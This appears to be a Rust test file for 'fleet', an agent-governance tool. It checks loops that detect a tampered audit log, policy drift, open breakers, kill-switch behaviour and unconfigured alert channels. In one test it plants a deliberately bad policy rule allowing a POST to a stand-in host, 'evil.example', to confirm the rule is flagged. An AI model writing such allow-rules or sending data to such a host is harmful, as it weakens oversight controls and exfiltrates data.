//! Loops that keep fleet itself honest, on real state: each is seen to catch its fault.

use crate::harness::World;
use crate::servers::discord::{self, Channel, Mood, TOKEN};
use crate::servers::world::{Builder, Net};
use fleet::call::LoopId;
use fleet::loops::{self, Asked, lint::House};
use fleet::state::{Secret, Secrets};
use serde_json::{Value, json};
use std::sync::Arc;

/// A world in which the loop is registered.
fn with(id: &str) -> World {
    let world = World::new();
    let ran = world.fleet(&["loop", "register", id]);
    assert_eq!(ran.code, 0, "{ran:?}");
    world
}

fn run(world: &World, id: &str) -> (i32, Value) {
    let ran = world.fleet(&["run-loop", id, "--now", "--json"]);
    (ran.code, ran.json())
}

/// The outcome of a run and the titles of what is open then.
fn found(world: &World, id: &str) -> (String, Vec<String>) {
    let (_, record) = run(world, id);
    let open = world.fleet(&["finding", "list", "--json"]).json();
    let titles = open.as_array().unwrap().iter().map(|f| f["title"].as_str().unwrap().to_owned());
    (record["outcome"].as_str().unwrap().to_owned(), titles.collect())
}

fn outcome(world: &World, id: &str) -> String {
    let (_, record) = run(world, id);
    record["outcome"].as_str().unwrap().to_owned()
}

/// Changes the line of the log that holds `kind` so that its hash does not fit any more.
fn forge(world: &World, nth: usize) {
    let text = std::fs::read_to_string(world.segment()).unwrap();
    let mut lines: Vec<String> = text.lines().map(str::to_owned).collect();
    lines[nth] = lines[nth].replacen("\"ts\":\"2", "\"ts\":\"1", 1);
    std::fs::write(world.segment(), lines.join("\n") + "\n").unwrap();
}

#[test]
fn a_changed_entry_is_named_within_the_hour_and_told_at_once() {
    let world = with("audit-chain-verify");
    assert_eq!(found(&world, "audit-chain-verify"), ("noop".into(), vec![]));
    for _ in 0..5 {
        world.done("files_list", json!({"path": world.w()}));
    }
    forge(&world, 2);
    let (outcome, titles) = found(&world, "audit-chain-verify");
    assert_eq!(outcome, "partial", "{titles:?}");
    assert!(titles.len() == 1 && titles[0].contains("entry 3"), "{titles:?}");
    let told = world.outbox();
    assert!(told.iter().any(|n| n["title"].as_str().unwrap().contains("entry 3")), "{told:?}");
    // It is told once, and the runbook's first look names the same entry.
    let before = told.len();
    let _ = run(&world, "audit-chain-verify");
    assert_eq!(world.outbox().len(), before);
    assert_eq!(world.fleet(&["audit", "verify", "--json"]).json()["fault"]["seq"], 3);
}

#[test]
fn a_rewritten_history_does_not_fit_its_checkpoint() {
    let world = with("audit-anchor-crosscheck");
    assert_eq!(world.fleet(&["audit", "checkpoint"]).code, 0);
    assert_eq!(found(&world, "audit-anchor-crosscheck"), ("noop".into(), vec![]));
    let notes: Vec<_> = std::fs::read_dir(world.data().join("checkpoints")).unwrap().collect();
    let note = notes.into_iter().next().unwrap().unwrap().path();
    let text = std::fs::read_to_string(&note).unwrap();
    std::fs::write(&note, text.replacen("fleet.local/audit/", "fleet.local/audit/0", 1)).unwrap();
    let (_, titles) = found(&world, "audit-anchor-crosscheck");
    assert!(titles.len() == 1 && titles[0].contains("not the one that was signed"), "{titles:?}");
}

#[test]
fn a_loop_that_would_be_refused_today_is_named_with_its_rule() {
    let world = with("registry-lint");
    assert_eq!(found(&world, "registry-lint"), ("noop".into(), vec![]));
    let own = world.config().join("loops/scan-filer.toml");
    std::fs::write(&own, "format = 1\ntitle = \"x\"\n").unwrap();
    let (_, titles) = found(&world, "registry-lint");
    assert!(titles.len() == 1 && titles[0].contains("scan-filer") && titles[0].contains("FL0"), "{titles:?}");
    std::fs::remove_file(own).unwrap();
    assert_eq!(found(&world, "registry-lint"), ("ok".into(), vec![]));
}

#[test]
fn the_kill_switch_is_drilled_in_a_home_that_is_gone_afterwards() {
    let world = with("kill-switch-drill");
    let (_, record) = run(&world, "kill-switch-drill");
    assert_eq!(
        (record["outcome"].as_str(), record["reason"].as_str()),
        (Some("noop"), Some("calls that the switch refused: 4")),
        "{record}"
    );
    assert!(!world.data().join("KILL").exists() && world.count("kill.engaged") == 0);
    let result = world.done("fleet_check", json!({"what": ["kill-drill"]}));
    let refused = result["parts"]["kill-drill"]["refused"].as_array().unwrap().clone();
    assert!(refused.iter().all(|r| r["seq"].as_u64() > Some(1)), "{refused:?}");
}

#[test]
fn a_rule_that_lets_through_what_nobody_may_do_is_named_with_its_caller() {
    let world = with("deny-list-drill");
    let (_, record) = run(&world, "deny-list-drill");
    assert_eq!(record["outcome"], "noop", "{record}");
    let rule = "\n[[rule]]\nid = \"quick\"\ndecide = \"allow\"\ntools = [\"files_trash\"]\ncallers = [\"cli\"]\nreason = \"no time\"\n\
                match = [{ tool = \"files_trash\", args = { paths = [\"/srv/x\"] } }]\nnot_match = [{ tool = \"files_read\", args = { path = \"/srv/x\" } }]\n\
                [[rule]]\nid = \"post\"\ndecide = \"allow\"\ntools = [\"web_send\"]\nreason = \"no time\"\n\
                match = [{ tool = \"web_send\", args = { url = \"https://evil.example/in\", method = \"POST\", json = { x = 1 } } }]\nnot_match = [{ tool = \"files_read\", args = { path = \"/srv/x\" } }]\n";
    let file = world.config().join("policy.toml");
    let policy = std::fs::read_to_string(&file).unwrap();
    std::fs::write(&file, policy + rule).unwrap();
    assert_eq!(world.fleet(&["policy", "lint"]).code, 0);
    let (_, titles) = found(&world, "deny-list-drill");
    assert!(titles.len() == 1 && titles[0].contains("web_send"), "{titles:?}");
    assert_eq!(world.count("call.intent"), 0, "the drill made a call");
}

#[test]
fn what_you_accepted_is_remembered_until_you_register_again() {
    let world = with("policy-drift");
    assert_eq!(found(&world, "policy-drift").0, "noop");
    assert_eq!(found(&world, "policy-drift"), ("noop".into(), vec![]));
    let file = world.config().join("fleet.toml");
    let text = std::fs::read_to_string(&file).unwrap();
    std::fs::write(&file, format!("{text}\n[ceilings]\n\"tool:mail_send\" = \"500/d\"\n")).unwrap();
    for _ in 0..2 {
        let (_, titles) = found(&world, "policy-drift");
        assert_eq!(titles, ["fleet.toml is not what you accepted"]);
    }
    assert_eq!(world.fleet(&["loop", "register", "policy-drift"]).code, 0);
    assert_eq!(found(&world, "policy-drift"), ("ok".into(), vec![]));
    assert!(world.outbox().iter().any(|n| n["title"].as_str().unwrap().starts_with("over: ")));
    // A policy that does not read is a finding, and what was accepted stays.
    std::fs::write(world.config().join("policy.toml"), "version = 1\n[workspace]\nrots = []\n").unwrap();
    let ran = world.fleet(&["run-loop", "policy-drift", "--now"]);
    assert_ne!(ran.code, 0, "{ran:?}");
    assert!(!world.outbox().is_empty());
}

#[test]
fn a_breaker_stays_in_view_until_it_is_closed() {
    let world = with("breaker-watch");
    assert_eq!(found(&world, "breaker-watch"), ("noop".into(), vec![]));
    assert_eq!(world.fleet(&["breaker", "trip", "family:web", "--reason", "smoke"]).code, 0);
    let (_, titles) = found(&world, "breaker-watch");
    assert_eq!(titles, ["Breaker family:web is open"]);
    assert_eq!(world.fleet(&["breaker", "reset", "family:web"]).code, 0);
    assert_eq!(found(&world, "breaker-watch"), ("ok".into(), vec![]));
    std::fs::write(world.data().join("brakes.json"), "x").unwrap();
    assert!(outcome(&world, "breaker-watch").starts_with("failed:"), "a broken tool is a failure");
}

#[test]
fn a_loop_that_waits_for_a_setting_is_explained_with_its_line() {
    let world = with("skip-explainer");
    assert_eq!(world.fleet(&["loop", "register", "findings-digest"]).code, 0);
    let ran = world.fleet(&["run-loop", "findings-digest", "--now", "--json"]);
    assert_eq!((ran.code, ran.json()["outcome"].as_str()), (0, Some("skipped:not_configured")), "{ran:?}");
    let (_, titles) = found(&world, "skip-explainer");
    assert_eq!(titles, ["findings-digest does nothing until it is set up"]);
    let text = world.fleet(&["finding", "list"]).stdout;
    assert!(text.contains("channel = "), "{text}");
}

#[test]
fn incidents_are_listed_written_up_and_reminded_of_after_three_days() {
    let world = with("postmortem-reminder");
    let bare = world.fleet(&["postmortem", "list"]);
    assert_eq!((bare.code, bare.stdout.as_str()), (0, ""), "{bare:?}");
    assert_eq!(world.fleet(&["postmortem", "new"]).code, 1);
    assert_eq!(world.fleet(&["kill", "--reason", "smoke in the room"]).code, 0);
    assert_eq!(world.fleet(&["kill", "--release", "--reason", "it was toast"]).code, 0);
    assert_eq!(world.fleet(&["breaker", "trip", "family:web", "--reason", "a test"]).code, 0);
    let rows = world.fleet(&["postmortem", "list", "--json"]).json();
    let kinds: Vec<_> = rows.as_array().unwrap().iter().map(|r| r["kind"].as_str().unwrap()).collect();
    assert_eq!(kinds, ["kill", "breaker"], "{rows}");
    let text = world.fleet(&["postmortem", "list"]).stdout;
    assert!(text.lines().all(|l| l.chars().count() <= 80) && text.contains("smoke in the room"), "{text}");
    // Young ones are nobody's duty yet.
    assert_eq!(found(&world, "postmortem-reminder"), ("noop".into(), vec![]));
    let seq = rows[0]["seq"].to_string();
    let ran = world.fleet(&["postmortem", "new", &seq, "--json"]);
    let page = std::fs::read_to_string(ran.json()["page"].as_str().unwrap()).unwrap();
    assert!(
        page.contains("smoke in the room") && page.contains("> ") && page.contains("## Why did it happen"),
        "{page}"
    );
    assert_eq!(world.fleet(&["postmortem", "new", &seq]).code, 1, "it overwrites nothing");
    assert_eq!(world.fleet(&["postmortem", "new", "9999"]).code, 2);
    let later = world.fleet_at("+4d", &["run-loop", "postmortem-reminder", "--now", "--json"]).json();
    assert_eq!(later["counts"]["findings_open"], 1, "the kill is written up, the breaker is not: {later}");
}

/// A home whose channel `alerts` is a recorder with Discord's wire format.
fn net(channel: &Arc<Channel>) -> Net {
    let net = Builder::new().host("discord.com", &[443], &discord::handler(channel)).build();
    let settings = net.world.config().join("fleet.toml");
    let text = std::fs::read_to_string(&settings).unwrap();
    let text = text.replacen("[shared]", "[shared]\nchannel = \"alerts\"", 1);
    std::fs::write(&settings, text + "\n[discord]\nchannels = [\"alerts\"]\n").unwrap();
    let address = format!("https://discord.com/api/webhooks/123456/{TOKEN}");
    Secrets::of(&net.home).put("discord:alerts", &Secret::new(address)).unwrap();
    net
}

fn live(net: &Net, id: &str) -> LoopId {
    let id = LoopId::parse(id).unwrap();
    let person = fleet::gate::Person::of_scratch(&net.home).unwrap();
    let house = House::of(&net.home).unwrap();
    let _ = loops::register(&net.home, &id, &person, &house).unwrap();
    loops::set_mode(&net.home, &id, loops::Mode::Live, &person).unwrap();
    id
}

fn said(channel: &Channel) -> Vec<String> {
    let kept = channel.messages.lock().unwrap();
    kept.values().map(|m| m["content"].as_str().unwrap().to_owned()).collect()
}

#[test]
fn what_waits_is_told_in_one_message_and_nothing_waits_in_silence() {
    let channel = Arc::<Channel>::default();
    let net = net(&channel);
    let id = live(&net, "approvals-digest");
    assert_eq!(loops::run(&net.home, &id, Asked::Now).unwrap().outcome.to_string(), "noop");
    assert!(said(&channel).is_empty());
    for name in ["one", "two"] {
        std::fs::write(net.world.at(name), "x").unwrap();
        let reply = net.call("files_trash", json!({"paths": [net.world.at(name)]}));
        assert!(reply.approval.is_some(), "{reply:?}");
    }
    let record = loops::run(&net.home, &id, Asked::Now).unwrap();
    assert_eq!(record.outcome.to_string(), "ok", "{record:?}");
    let messages = said(&channel);
    assert_eq!(messages.len(), 1);
    assert!(
        messages[0].contains("2 calls wait for you") && messages[0].matches("fleet approve ").count() == 2,
        "{messages:?}"
    );
}

#[test]
fn findings_of_all_loops_are_one_message_and_none_are_silence() {
    let channel = Arc::<Channel>::default();
    let net = net(&channel);
    let (id, watch) = (live(&net, "findings-digest"), live(&net, "breaker-watch"));
    assert_eq!(loops::run(&net.home, &id, Asked::Now).unwrap().outcome.to_string(), "noop");
    let key = fleet::gate::BrakeKey::parse("family:files").unwrap();
    fleet::gate::trip(&net.home, &key, Some("smoke"), false).unwrap();
    let _ = loops::run(&net.home, &watch, Asked::Now).unwrap();
    let record = loops::run(&net.home, &id, Asked::Now).unwrap();
    assert_eq!(record.outcome.to_string(), "ok", "{record:?}");
    let messages = said(&channel);
    assert!(
        messages.len() == 1 && messages[0].contains("breaker-watch: Breaker family:files is open"),
        "{messages:?}"
    );
}

#[test]
fn a_channel_that_does_not_take_the_probe_is_an_urgent_finding() {
    let channel = Arc::<Channel>::default();
    let net = net(&channel);
    let id = live(&net, "failure-channel-probe");
    let record = loops::run(&net.home, &id, Asked::Now).unwrap();
    assert_eq!(record.calls[0].status, "done", "{record:?}");
    assert_eq!(said(&channel).len(), 1);
    for mood in [Mood::Gone, Mood::Full(3_600_000)] {
        *channel.moods.lock().unwrap() = vec![mood];
        let _ = loops::run(&net.home, &id, Asked::Now).unwrap();
        let open = loops::open_findings(&net.home).unwrap();
        assert!(open.len() == 1 && open[0].1.title.contains("alerts"), "{open:?}");
    }
    assert!(net.world.outbox().iter().any(|n| n["title"].as_str().unwrap().contains("do not reach")));
}

#[test]
fn a_runbook_that_is_edited_or_gone_stops_its_loop() {
    let world = with("breaker-watch");
    let page = world.data().join("loops/breaker-watch/runbook.md");
    let text = std::fs::read_to_string(&page).unwrap();
    std::fs::write(&page, text.replacen("reset", "ignore", 1)).unwrap();
    assert_eq!(outcome(&world, "breaker-watch"), "failed:changed");
    std::fs::remove_file(&page).unwrap();
    let ran = world.fleet(&["run-loop", "breaker-watch", "--now"]);
    assert_eq!(ran.code, 1, "{ran:?}");
    assert_eq!(world.fleet(&["loop", "register", "breaker-watch"]).code, 0);
    assert_eq!(outcome(&world, "breaker-watch"), "noop");
}
